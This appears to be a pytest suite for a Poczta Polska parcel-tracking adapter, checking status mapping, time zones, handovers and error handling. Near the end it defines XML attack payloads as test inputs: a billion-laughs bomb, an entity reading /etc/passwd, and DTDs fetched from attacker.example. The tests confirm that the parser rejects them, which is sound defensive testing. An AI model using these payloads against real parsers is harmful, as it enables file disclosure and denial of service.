"""TRK-1/2/3/4/5: the Poczta Polska (Envelo SOAP) adapter on Garant's own fixtures.

Event codes other than P_NAD, P_A and P_D in the fixtures stand for codes whose meaning is
not published: the adapter reads those events from their Polish names, which is what these
tests check.
"""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest

from garant.carriers import CarrierError, TrackingNotFound, get_adapter
from garant.carriers._postal import parse_handover_leg
from garant.carriers.poczta_polska import classify
from garant.domain.tracking import SubStatus, TrackingEvent, TrackingParseError, TrackingStatus

FIXTURES = Path(__file__).resolve().parents[1] / "fixtures" / "carriers" / "poczta_polska"
BEIJING = timezone(timedelta(hours=8))
CET = timezone(timedelta(hours=1))
CEST = timezone(timedelta(hours=2))
S, T = SubStatus, TrackingStatus


def _events(name: str) -> list[TrackingEvent]:
    return get_adapter("poczta_polska").parse((FIXTURES / name).read_bytes())


def _one(events: list[TrackingEvent], code: str) -> TrackingEvent:
    (event,) = [e for e in events if e.raw_code == code]
    return event


@pytest.fixture(scope="module")
def journey() -> list[TrackingEvent]:
    return _events("china_to_france_delivered.xml")


def test_trk2_poczta_polska_full_journey_mapping(journey):
    assert [(e.raw_code, e.status, e.sub_status) for e in journey] == [
        ("P_NAD", T.IN_TRANSIT, S.ACCEPTED),
        ("P_WZL", T.IN_TRANSIT, S.DEPARTED_ORIGIN_COUNTRY),
        ("P_PWUW", T.IN_TRANSIT, S.IN_TRANSIT_OTHER),
        ("P_ODPC", T.IN_TRANSIT, S.CUSTOMS_PROCESSING),
        ("P_ZODC", T.IN_TRANSIT, S.CUSTOMS_RELEASED),
        ("P_WDKP", T.IN_TRANSIT, S.IN_TRANSIT_OTHER),
        ("P_POKP", T.IN_TRANSIT, S.HANDED_TO_LAST_MILE),
        ("P_WDR", T.OUT_FOR_DELIVERY, S.NONE),
        ("P_D", T.DELIVERED, S.DELIVERED_OTHER),
    ]
    assert {(e.carrier, e.tracking_number) for e in journey} == {("poczta_polska", "LB555123453CN")}


def test_trk1_poczta_polska_time_is_the_scanning_units_wall_clock(journey):
    posted = _one(journey, "P_NAD")
    assert posted.occurred_at == datetime(2024, 3, 18, 10, 12, tzinfo=BEIJING)
    assert (posted.location.country, posted.location.city) == ("CN", "Shenzhen")
    exchange = _one(journey, "P_PWUW")
    assert exchange.occurred_at.isoformat() == "2024-03-21T07:15:00+01:00"
    assert exchange.location.country == "PL"
    assert exchange.location.description == "Urząd Wymiany Warszawa"
    delivered = _one(journey, "P_D")
    assert delivered.occurred_at == datetime(2024, 3, 26, 12, 40, tzinfo=CET)
    assert (delivered.location.country, delivered.location.city) == ("FR", "Lyon")


def test_trk1_poczta_polska_summer_time_in_poland():
    hold = _one(_events("customs_hold.xml"), "P_ZUC")
    assert hold.occurred_at == datetime(2024, 4, 5, 13, 30, tzinfo=CEST)


def test_trk3_poczta_polska_handover_to_la_poste_keeps_local_number(journey):
    handover = _one(journey, "P_POKP")
    assert parse_handover_leg(handover.leg) == ("laposte", "6A24566677788")
    assert "6A24566677788" in handover.raw_text
    assert handover.location.city == "Paryż"


def test_trk2_poczta_polska_customs_hold_maps_to_held_by_customs():
    events = _events("customs_hold.xml")
    request, hold = _one(events, "P_WUDC"), _one(events, "P_ZUC")
    assert (request.status, request.sub_status) == (T.IN_TRANSIT, S.CUSTOMS_INFORMATION_REQUIRED)
    assert (hold.status, hold.sub_status) == (T.EXCEPTION, S.HELD_BY_CUSTOMS)


def test_trk10_poczta_polska_notice_then_post_office_pickup():
    events = _events("returned_unclaimed.xml")
    notice, counter = _one(events, "P_A"), _one(events, "P_PDO")
    assert (notice.status, notice.sub_status) == (T.DELIVERY_FAILED, S.RECIPIENT_ABSENT)
    assert (counter.status, counter.sub_status) == (T.AVAILABLE_FOR_PICKUP, S.PICKUP_POINT)


def test_trk5_poczta_polska_returned_unclaimed_shows_the_reason():
    events = _events("returned_unclaimed.xml")
    returning, back_home = _one(events, "P_ZWR"), events[-1]
    assert returning.status is T.RETURNING
    assert returning.raw_text == "Zwrot do nadawcy (Nie podjęto w terminie)"
    # P_D is a delivery code, but a delivery to the sender is the end of a return.
    assert (back_home.raw_code, back_home.status, back_home.sub_status) == (
        "P_D", T.RETURNED, S.UNCLAIMED,
    )  # fmt: skip
    assert back_home.occurred_at == datetime(2024, 10, 21, 11, 15, tzinfo=BEIJING)


def test_trk2_poczta_polska_lost_parcel_maps_to_exception_lost():
    lost = _events("lost.xml")[-1]
    assert (lost.status, lost.sub_status) == (T.EXCEPTION, S.LOST)


def test_trk4_poczta_polska_unknown_number_raises_not_found():
    with pytest.raises(TrackingNotFound) as caught:
        _events("not_found.xml")
    assert caught.value.tracking_number == "LB000000000CN" and not caught.value.invalid_number


def test_trk4_poczta_polska_malformed_number_is_flagged_as_a_typing_error():
    with pytest.raises(TrackingNotFound) as caught:
        _events("invalid_number.xml")
    assert caught.value.invalid_number is True


def test_trk4_poczta_polska_soap_fault_is_a_carrier_error():
    with pytest.raises(CarrierError) as caught:
        _events("soap_fault.xml")
    assert "security processing failed" in caught.value.carrier_message


def test_trk4_poczta_polska_other_error_status_is_a_carrier_error():
    payload = (FIXTURES / "not_found.xml").read_text().replace(">-1<", ">-99<")
    with pytest.raises(CarrierError):
        get_adapter("poczta_polska").parse(payload)


def test_trk1_poczta_polska_unit_abroad_without_a_single_zone_is_refused():
    payload = (FIXTURES / "china_to_france_delivered.xml").read_text()
    with pytest.raises(TrackingParseError, match="no time zone"):
        get_adapter("poczta_polska").parse(payload.replace("Lyon (Francja)", "Springfield (USA)"))


BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<ns:sprawdzPrzesylkeResponse xmlns:ns="http://sledzenie.pocztapolska.pl"><ns:return>
<ns:numer>&lol3;</ns:numer><ns:status>0</ns:status></ns:return></ns:sprawdzPrzesylkeResponse>
</soapenv:Body></soapenv:Envelope>"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Body>
<ns:sprawdzPrzesylkeResponse xmlns:ns="http://sledzenie.pocztapolska.pl"><ns:return>
<ns:numer>&xxe;</ns:numer><ns:status>0</ns:status></ns:return></ns:sprawdzPrzesylkeResponse>
</soapenv:Body></soapenv:Envelope>"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE soapenv:Envelope SYSTEM "http://attacker.example/evil.dtd">
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"/>"""

PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]><r/>"""


@pytest.mark.parametrize(
    "payload",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion_laughs", "external_entity", "external_dtd", "parameter_entity"],
)
def test_trk2_poczta_polska_xml_entity_attacks_raise_parse_error_only(payload):
    for form in (payload, payload.encode()):
        with pytest.raises(TrackingParseError) as caught:
            get_adapter("poczta_polska").parse(form)
        assert not isinstance(caught.value, TrackingNotFound | CarrierError)


def test_trk2_poczta_polska_deeply_nested_xml_raises_parse_error():
    nested = "<a>" * 5000 + "</a>" * 5000
    with pytest.raises(TrackingParseError):
        get_adapter("poczta_polska").parse(f"<Envelope><Body>{nested}</Body></Envelope>")


def test_trk2_poczta_polska_every_element_emptied_or_garbled_is_contained():
    source = (FIXTURES / "china_to_france_delivered.xml").read_text()
    tags = sorted({part.split(">")[0].split()[0] for part in source.split("<")[1:]
                   if part[:1].isalpha()})  # fmt: skip
    for tag in tags:
        for replacement in ("", "garbage", "2024-13-45 99:99", "<x/>", "-2"):
            garbled = source.replace(f"<{tag}>", f"<{tag}>{replacement}<!--", 1).replace(
                f"</{tag}>", f"--></{tag}>", 1
            )
            try:
                result = get_adapter("poczta_polska").parse(garbled)
            except TrackingParseError:
                continue
            assert isinstance(result, list)


@pytest.mark.parametrize(
    ("code", "words", "expected"),
    [
        ("P_A", "Awizo", (T.DELIVERY_FAILED, S.RECIPIENT_ABSENT)),
        ("P_A", "Próba doręczenia Odmowa przyjęcia", (T.DELIVERY_FAILED, S.REFUSED)),
        ("P_A", "Próba doręczenia Adresat nieznany", (T.DELIVERY_FAILED, S.ADDRESS_PROBLEM)),
        ("P_D", "Doręczenie Odebrano w placówce", (T.DELIVERED, S.COLLECTED)),
        ("P_D", "Doręczenie do skrzynki pocztowej", (T.DELIVERED, S.LETTER_BOX)),
        ("P_X", "Przesyłka do odbioru w automacie paczkowym", (T.AVAILABLE_FOR_PICKUP, S.LOCKER)),
        (
            "P_X",
            "Przyjęcie przesyłki w kraju przeznaczenia",
            (T.IN_TRANSIT, S.ARRIVED_DESTINATION_COUNTRY),
        ),
        ("P_X", "Zwrot Adresat wyprowadził się", (T.RETURNING, S.NONE)),
        ("P_X", "Coś nowego", (T.IN_TRANSIT, S.IN_TRANSIT_OTHER)),
    ],
)
def test_trk2_poczta_polska_codes_and_polish_names(code, words, expected):
    assert classify(code, words) == expected
